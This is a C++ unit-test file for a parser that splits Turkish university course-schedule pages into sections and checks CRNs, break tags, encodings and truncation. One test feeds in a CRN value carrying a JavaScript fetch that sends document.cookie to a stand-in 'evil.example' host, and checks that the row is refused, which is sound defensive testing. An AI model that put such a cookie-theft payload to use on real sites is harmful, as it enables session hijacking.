#include "acquisition/page_cutter.h"

#include <gtest/gtest.h>

#include "acquisition_fixture.h"
#include "text/cp1254.h"

namespace kiremo::acquisition {
namespace {

using testing::SchedulePage;

std::vector<std::string> Row(std::string crn, std::string code, std::string title, std::string teacher,
                             std::string bina, std::string gun, std::string saat, std::string derslik,
                             std::string alabilenler) {
  return {crn, code, title, teacher, bina, gun, saat, derslik, "40", "12", "0", alabilenler, "Yok", "-"};
}

TEST(PageCutterTest, OneDataRowGivesOneSectionWithEveryColumn) {
  const std::string page = SchedulePage({Row("21345", "ELK 201E", "Devre Analizi", "Ahmet Yılmaz"_w.data(),
                                             "EEB<br>EEB<br>", "Pazartesi<br>Çarşamba <br>"_w.data(),
                                             "0830/1029<br>1330/1529<br>", "D 101<br>D 202<br>", "ELK, ELKE, TEL")});
  const auto sections = CutSchedulePage(page);
  ASSERT_TRUE(sections.has_value());
  ASSERT_EQ(sections->size(), 1u);
  const auto& s = sections->front();
  EXPECT_EQ(s.crn, "21345");
  EXPECT_EQ(s.ders_kodu, "ELK 201E");  // no line break: inner blank kept
  EXPECT_EQ(s.ders_adi, "Devre Analizi");
  EXPECT_EQ(s.ogretmen, std::string("Ahmet Yılmaz"_w));
  EXPECT_EQ(s.bina, "EEB|EEB");
  EXPECT_EQ(s.gun, std::string("Pazartesi|Çarşamba"_w));  // blank before the tag gone
  EXPECT_EQ(s.saat, "0830/1029|1330/1529");
  EXPECT_EQ(s.derslik, "D101|D202");  // every blank removed in a multi-line cell
  EXPECT_EQ(s.alabilenler, "ELK, ELKE, TEL");
  EXPECT_EQ(s.blok, 2);
}

TEST(PageCutterTest, AHeaderWithoutRowsHasNoSectionTable) {
  EXPECT_FALSE(CutSchedulePage(SchedulePage({})).has_value());
  EXPECT_FALSE(CutSchedulePage("").has_value());
  EXPECT_FALSE(CutSchedulePage("<html>Sunucu hatası</html>"_w).has_value());
}

TEST(PageCutterTest, BreakTagsOfAnyCaseBecomeSeparatorsButSlashedOnesVanish) {
  const auto sections =
      CutSchedulePage(SchedulePage({Row("20001", "A 1", "T", "X", "MKB<BR>EEB<Br>", "Pazartesi<br/>Salı<br />"_w.data(),
                                        "0830/1029<bR>", "R1<br>", "TÜM"_w.data())}));
  ASSERT_TRUE(sections && sections->size() == 1);
  EXPECT_EQ((*sections)[0].bina, "MKB|EEB");
  EXPECT_EQ((*sections)[0].gun, std::string("PazartesiSalı"_w));  // no "|" at all: kept as one value
  EXPECT_EQ((*sections)[0].saat, "0830/1029");
  EXPECT_EQ((*sections)[0].blok, 1);
}

TEST(PageCutterTest, CellsKeepCarriageReturnsAndOneOfTwoTrailingBreaks) {
  const auto sections = CutSchedulePage(
      SchedulePage({Row("20001", "A 1", "T", "X", "MKB\r<br>EEB<br>", "Cuma<br><br>", "/<br>", "-", "ELK")}));
  ASSERT_TRUE(sections && sections->size() == 1);
  EXPECT_EQ((*sections)[0].bina, "MKB\r|EEB");
  EXPECT_EQ((*sections)[0].gun, "Cuma|");
  EXPECT_EQ((*sections)[0].saat, "/");
  EXPECT_EQ((*sections)[0].blok, 0);
}

TEST(PageCutterTest, ALineFeedInsideABreakTagIsRemovedFirst) {
  const auto sections = CutSchedulePage(
      SchedulePage({Row("20001", "A 1", "T", "X", "MKB<b\nr>EEB<br\n>", "PA", "0830/0929", "-", "ELK")}));
  ASSERT_TRUE(sections && sections->size() == 1);
  EXPECT_EQ((*sections)[0].bina, "MKB|EEB");
}

TEST(PageCutterTest, ThreeMeetingsGiveTwentyNineTimeCharacters) {
  const auto sections =
      CutSchedulePage(SchedulePage({Row("20001", "A", "T", "X", "A<br>B<br>C<br>", "PA<br>SA<br>CU<br>",
                                        "0830/1029<br>1030/1229<br>1330/1529<br>", "-", "ELK")}));
  ASSERT_TRUE(sections && sections->size() == 1);
  EXPECT_EQ((*sections)[0].saat.size(), 29u);
  EXPECT_EQ((*sections)[0].blok, 3);
}

TEST(PageCutterTest, RowsStopAtTheFooterMarkerOrAnIncompleteRow) {
  std::vector<std::vector<std::string>> rows = {Row("20001", "A 1", "T", "X", "B", "PA", "0830/0929", "-", "ELK"),
                                                Row("20002", "A 1", "T", "X", "B", "PA", "0830/0929", "-", "ELK"),
                                                Row("<br><br>Son", "x", "x", "x", "x", "x", "x", "x", "x"),
                                                Row("20003", "A 1", "T", "X", "B", "PA", "0830/0929", "-", "ELK")};
  auto sections = CutSchedulePage(SchedulePage(rows));
  ASSERT_TRUE(sections.has_value());
  EXPECT_EQ(sections->size(), 2u);  // "||S" ends the table

  // A last row with cells up to 12 counts; one without cell 12 does not.
  std::string page = SchedulePage({Row("20001", "A 1", "T", "X", "B", "PA", "0830/0929", "-", "ELK")});
  std::string thirteen = page.substr(0, page.find("</table>"));
  for (int k = 0; k < 13; ++k) thirteen += "<td>" + std::to_string(k == 0 ? 20007 : k) + "</td>";
  sections = CutSchedulePage(thirteen);
  ASSERT_TRUE(sections.has_value());
  EXPECT_EQ(sections->size(), 2u);
  std::string twelve = page.substr(0, page.find("</table>"));
  for (int k = 0; k < 12; ++k) twelve += "<td>" + std::to_string(k == 0 ? 20007 : k) + "</td>";
  sections = CutSchedulePage(twelve);
  EXPECT_EQ(sections->size(), 1u);
}

TEST(PageCutterTest, TextBeforeTheFirstCrnIsDropped) {
  // The header's "CRN" is found first; a "C" in the head is not.
  std::string page =
      "<td>Cok</td><td>bozuk</td>" + SchedulePage({Row("20001", "A 1", "T", "X", "B", "PA", "0830/0929", "-", "ELK")});
  const auto sections = CutSchedulePage(page);
  ASSERT_TRUE(sections && sections->size() == 1);
  EXPECT_EQ((*sections)[0].crn, "20001");
}

TEST(PageCutterTest, ApostrophesAndTurkishBytesPassUnchanged) {
  const std::string title = std::string("Mühendis'in Şövalyesi"_w);
  const auto sections =
      CutSchedulePage(SchedulePage({Row("20001", "A 1", title, "---", "", "", "", "", "TÜM"_w.data())}));
  ASSERT_TRUE(sections && sections->size() == 1);
  EXPECT_EQ((*sections)[0].ders_adi, title);
  EXPECT_EQ((*sections)[0].alabilenler, std::string("TÜM"_w));
  EXPECT_EQ((*sections)[0].blok, 0);
}

// A CRN goes into the add/drop script: a row whose CRN is anything but five
// digits is no section, and the rest of the department stays.
TEST(PageCutterTest, ARowWhoseCrnIsNotFiveDigitsIsRefusedAndCounted) {
  const auto row = [](const std::string& crn) { return Row(crn, "A 1", "T", "X", "B", "PA", "0830/0929", "-", "ELK"); };
  const auto table = CutSectionTable(
      SchedulePage({row("20001"), row("1,fetch('https://evil.example/?c='+document.cookie)"), row("2000"),
                    row("200011"), row("2000a"), row(""), row("<b>20002</b>"), row(" 20003 "), row("20 004"),
                    row("2\xB2"
                        "005")}));
  ASSERT_TRUE(table.has_value());
  std::vector<std::string> crns;
  for (const auto& section : table->sections) crns.push_back(section.crn);
  EXPECT_EQ(crns, (std::vector<std::string>{"20001", "20002", "20003"}));
  EXPECT_EQ(table->refused_rows, 7);
  EXPECT_EQ(CutSchedulePage(SchedulePage({row("20001"), row("x")}))->size(), 1u);
  for (const char* crn : {"00000", "99999", "21345"}) EXPECT_TRUE(IsCrn(crn)) << crn;
  for (const char* crn : {"", "1234", "123456", "1234 ", "12a45", "-1234"}) EXPECT_FALSE(IsCrn(crn)) << crn;
}

// A page whose body stops inside the table (sent half, with a length that
// says it is whole) is told from a whole one by what follows its last cell,
// however few cells are left.
TEST(PageCutterTest, APageThatDoesNotEndAfterItsTableIsCutOff) {
  std::vector<std::vector<std::string>> rows;
  for (int k = 0; k < 20; ++k) {
    rows.push_back(Row(std::to_string(20000 + k), "A 1", "T", "X", "B", "PA", "0830/0929", "-", "E"));
  }
  const std::string page = SchedulePage(rows);
  const std::string one_row = SchedulePage({rows[0]});
  const struct {
    const char* what;
    std::string page;
    bool cut_off;
  } cases[] = {
      {"a whole page", page, false},
      {"a page without rows", SchedulePage({}), false},
      {"a page without a table", "<html><body>Bak</body></html>", false},
      {"nothing", "", false},
      {"half the page", page.substr(0, page.size() / 2), true},
      {"half a page of one row", one_row.substr(0, one_row.size() / 2), true},
      {"the header alone", one_row.substr(0, one_row.find("CRN") + 20), true},
      {"all but the end of the page", page.substr(0, page.find("</body>")), true},
      {"the table's end without the page's", page.substr(0, page.find("</table>") + 8), true},
      {"upper-case closing tags", page.substr(0, page.find("</table>")) + "</TABLE></BODY></HTML>", false},
      {"a page's end before the table's", page.substr(0, page.find("</table>")) + "</html></table>", true},
  };
  for (const auto& c : cases) EXPECT_EQ(PageCutOff(c.page), c.cut_off) << c.what;
}

TEST(PageCutterTest, CleanCellFollowsItsThreeSteps) {
  EXPECT_EQ(CleanCell("  <b>Ali  Veli</b> \r"), "Ali  Veli");
  EXPECT_EQ(CleanCell("<a href='x'>A B|C D |</a>"), "AB|CD");
  EXPECT_EQ(CleanCell("|"), "");
  EXPECT_EQ(CleanCell("x<unclosed"), "x");
}

}  // namespace
}  // namespace kiremo::acquisition
